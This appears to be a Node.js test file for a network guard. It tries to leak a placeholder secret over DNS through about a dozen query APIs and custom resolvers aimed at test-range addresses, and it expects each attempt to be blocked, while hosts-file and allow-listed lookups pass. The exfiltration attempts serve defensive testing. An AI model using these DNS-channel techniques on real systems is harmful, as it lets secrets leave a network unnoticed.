// DNS as an exfiltration channel: every query API (lookup, resolve*, reverse, lookupService, a
// Resolver with servers of its own). A fake nameserver on 198.18.0.53:53 counts what reaches it.
import dns from 'node:dns'

const secret = 'c2VjcmV0.dns-only.test'
const settle = (kit, fn) =>
  kit.timeout(
    new Promise((resolve, reject) => fn((error, ...value) => (error ? reject(error) : resolve(value)))),
  )

const blocked = [
  ['dns-lookup', 'dns.lookup of a name only DNS knows', (kit) => settle(kit, (cb) => dns.lookup(secret, cb))],
  [
    'dns-lookup-all',
    'dns.lookup(…, { all: true })',
    (kit) => settle(kit, (cb) => dns.lookup(secret, { all: true }, cb)),
  ],
  ['dns-promises-lookup', 'dns.promises.lookup', (kit) => kit.timeout(dns.promises.lookup(secret))],
  ['dns-resolve4', 'dns.resolve4', (kit) => settle(kit, (cb) => dns.resolve4(secret, cb))],
  ['dns-resolve-txt', 'dns.promises.resolveTxt', (kit) => kit.timeout(dns.promises.resolveTxt(secret))],
  [
    'dns-resolve-any',
    'dns.resolve(name, "ANY")',
    (kit) => settle(kit, (cb) => dns.resolve(secret, 'ANY', cb)),
  ],
  [
    'dns-reverse',
    'dns.reverse of a remote address (a PTR query)',
    (kit) => settle(kit, (cb) => dns.reverse('198.18.0.10', cb)),
  ],
  [
    'dns-lookup-service',
    'dns.lookupService of a remote address (getnameinfo)',
    (kit) => settle(kit, (cb) => dns.lookupService('198.18.0.12', 22, cb)),
  ],
  [
    'dns-resolver-set-servers',
    "new dns.Resolver() with setServers(['198.18.0.53'])",
    (kit) => {
      const r = new dns.Resolver()
      r.setServers(['198.18.0.53'])
      return settle(kit, (cb) => r.resolve4(secret, cb))
    },
  ],
  [
    'dns-promises-resolver',
    "new dns.promises.Resolver() with setServers(['198.18.0.53:53'])",
    (kit) => {
      const r = new dns.promises.Resolver()
      r.setServers(['198.18.0.53:53'])
      return kit.timeout(r.resolveTxt(secret))
    },
  ],
  [
    'dns-resolver-udp-server',
    'a Resolver whose server is any UDP port on a remote (DNS as a UDP channel)',
    (kit, t) => {
      const r = new dns.Resolver({ timeout: 500, tries: 1 })
      r.setServers([`198.18.0.10:${t.port}`])
      return settle(kit, (cb) => r.resolve4(secret, cb))
    },
  ],
  [
    'dns-resolver-v6-server',
    'a Resolver whose server is an IPv6 remote',
    (kit, t) => {
      const r = new dns.Resolver({ timeout: 500, tries: 1 })
      r.setServers([`[2001:db8::10]:${t.port}`])
      return settle(kit, (cb) => r.resolve4(secret, cb))
    },
  ],
]

export default [
  ...blocked.map(([id, title, attempt]) => ({
    id,
    title,
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      return attempt(kit, t)
    },
  })),
  {
    id: 'dns-lookup-hosts-file',
    title: 'dns.lookup of a hosts-file name: answered from the hosts file, no query',
    verdict: 'allowed',
    reach: 'nothing',
    async run({ guard, kit }) {
      await guard()
      return (await kit.timeout(dns.promises.lookup('remote.test'))).address
    },
  },
  {
    id: 'dns-lookup-allowed-name',
    title: 'dns.lookup of a name a rule covers: the query is allowed',
    verdict: 'allowed',
    reach: 'dns',
    budget: { dns: 2 },
    async run({ guard, kit }) {
      await guard({ allow: ['dns-only.test'] })
      return (await kit.timeout(dns.promises.lookup('dns-only.test'))).address
    },
  },
  {
    id: 'dns-resolve4-allowed',
    title: 'dns.resolve4 of a covered name with the nameserver allowed',
    verdict: 'allowed',
    reach: 'dns',
    budget: { dns: 1 },
    async run({ guard, kit }) {
      await guard({ allow: ['dns-only.test', '198.18.0.53:53'] })
      return kit.timeout(dns.promises.resolve4('dns-only.test'))
    },
  },
]
